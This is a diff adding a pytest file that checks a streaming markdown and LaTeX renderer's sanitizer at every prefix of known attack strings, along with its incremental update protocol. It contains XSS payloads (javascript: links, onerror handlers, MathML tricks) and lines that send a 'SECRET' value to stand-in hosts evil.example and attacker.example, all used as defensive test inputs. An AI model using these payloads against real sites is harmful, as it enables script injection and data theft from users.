@@ -1,0 +1,94 @@
+"""The growing tail: rendered through the finished blocks' sanitizer at every length it can have, and sent as the
+part of its markup that changed (bytes bounded by the text, never its square)."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from tests.support.xss import CORPUS, DANGEROUS_TAGS, Findings
+from tests.ui.test_markdown_stream import rebuilt
+from ui.math_markdown import MATH_TAGS
+from ui.safe_markdown import html_parts
+from ui.tail_render import Tail, render_tail
+
+MATH_PAYLOADS = (
+    "$\\href{javascript:window.__pwned=1}{x}$",
+    "$\\text{<img src=x onerror=window.__pwned=1>}$",
+    "$\\style{background:url(https://evil.example/x)}{x}$",
+    "$$\\href{https://evil.example/leak?d=SECRET}{y}$$",
+    "\\(\\color{red}{z}\\) <math><mi href=javascript:alert(1)>m</mi></math>",
+    "$x$<maction actiontype=statusline>y</maction>",
+)
+
+
+def prefixes(payload: str) -> list[str]:
+    """Every length the tail has while the payload streams in (a character at a time)."""
+    return [payload[:n] for n in range(1, len(payload) + 1)]
+
+
+def clean(html: str) -> None:
+    found = Findings(html)
+    assert not found.handlers, found.handlers
+    assert not found.bad_urls, found.bad_urls
+    assert not set(found.tags) & (DANGEROUS_TAGS - {"math"}), found.tags
+    assert all(s.replace(" ", "") in ("text-align:left", "text-align:right", "text-align:center") for s in found.styles)
+
+
+@pytest.mark.parametrize("payload", CORPUS + MATH_PAYLOADS)
+def test_no_prefix_of_a_known_payload_renders_a_script_handler_dangerous_url_or_tag_in_the_tail(payload: str) -> None:
+    for tail in prefixes(payload):
+        clean(render_tail(tail))
+
+
+@pytest.mark.parametrize("payload", MATH_PAYLOADS)
+def test_math_in_the_tail_is_mathml_with_no_link_style_or_html_inside(payload: str) -> None:
+    html = render_tail(payload)
+    for math in re.findall(r"<math\b.*?</math>", html, re.DOTALL):
+        found = Findings(math)
+        assert set(found.tags) <= MATH_TAGS, math
+        assert not found.urls and not found.styles and " href=" not in math and "url(" not in math
+
+
+def test_latex_that_smuggles_html_shows_as_its_source_text() -> None:
+    html = render_tail("$\\text{<img src=x onerror=window.__pwned=1>}$")
+    assert "<math" not in html and "&lt;img src=x onerror=window.__pwned=1&gt;" in html
+
+
+def test_a_remote_image_in_the_tail_is_a_link_and_loads_nothing() -> None:
+    for tail in prefixes("See ![chart](https://attacker.example/c?d=SECRET) now"):
+        assert "<img" not in render_tail(tail)
+    assert 'href="https://attacker.example/c?d=SECRET"' in render_tail(
+        "See ![chart](https://attacker.example/c?d=SECRET"
+    )
+
+
+def replay(messages: list[list[object]]) -> tuple[int, list[object]]:
+    """What the browser holds after the tail messages (markdown_stream.js ``setTail``)."""
+    start, parts = -1, list[object]()
+    for s, _end, keep, new in messages:
+        assert isinstance(s, int) and isinstance(keep, int) and isinstance(new, list)
+        parts = (parts[:keep] if s == start else []) + new
+        start = s
+    return start, parts
+
+
+def test_a_growing_paragraph_costs_a_range_and_its_closing_tags_per_update_and_ends_as_its_render() -> None:
+    text = "Some **bold** words, `code` and " + " ".join(f"word{n}" for n in range(3000))
+    tail, messages, at = Tail(), [], 0
+    for step in range(40, len(text) + 40, 40):
+        at = min(step, len(text))
+        if (message := tail.update(0, at, text[:at])) is not None:
+            messages.append(message)
+    start, parts = replay(messages)
+    assert start == 0 and rebuilt(text, parts) == rebuilt(text, html_parts(text, render_tail(text)))
+    sent = sum(len(json.dumps(m[2:], separators=(",", ":"))) for m in messages)
+    assert sent < 40 * len(messages), f"{sent} bytes for {len(messages)} updates of a {len(text)}-character tail"
+
+
+def test_an_unchanged_tail_sends_nothing() -> None:
+    tail = Tail()
+    assert tail.update(0, 5, "hello") is not None
+    assert tail.update(0, 5, "hello") is None
